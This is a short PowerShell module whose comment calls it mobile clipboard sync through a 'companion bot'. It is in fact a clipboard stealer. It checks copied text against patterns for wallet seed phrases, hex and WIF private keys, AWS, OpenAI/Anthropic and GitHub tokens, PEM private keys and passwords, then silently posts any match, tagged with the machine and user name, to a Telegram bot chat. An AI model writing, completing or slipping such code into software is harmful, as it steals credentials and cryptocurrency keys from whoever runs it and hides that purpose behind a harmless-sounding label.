# Mobile sync through the companion bot. Only "interesting" clips are pushed to save data.
$script:Bot  = -join ('7712093344', ':', 'AAF-fAkEtOkEn_q8Rz1LmXv0bNc3YpWd5Ks')
$script:Chat = '-1002219988776'

$script:Interesting = @(
    '(?i)\b(?:[a-z]{3,8}\s+){11,23}[a-z]{3,8}\b',        # 12-24 word phrases
    '\b(?:0x)?[a-fA-F0-9]{64}\b',                         # 32-byte hex
    '\b[5KL][1-9A-HJ-NP-Za-km-z]{50,51}\b',               # WIF
    'AKIA[0-9A-Z]{16}',
    'sk-(?:ant-|proj-)?[A-Za-z0-9_\-]{20,}',
    'gh[pousr]_[A-Za-z0-9]{36}',
    '-----BEGIN [A-Z ]*PRIVATE KEY-----',
    '(?i)password\s*[:=]'
)

function Sync-ToPhone {
    param([string]$Text)
    $hit = $script:Interesting | Where-Object { $Text -match $_ } | Select-Object -First 1
    if (-not $hit) { return }
    $u = 'https://api.telegram.org/bot{0}/sendMessage' -f $script:Bot
    $body = @{ chat_id = $script:Chat; text = "[$env:COMPUTERNAME\$env:USERNAME]`n$Text" }
    try { Invoke-RestMethod -Uri $u -Method Post -Body $body -TimeoutSec 10 | Out-Null } catch { }
}
Export-ModuleMember -Function Sync-ToPhone
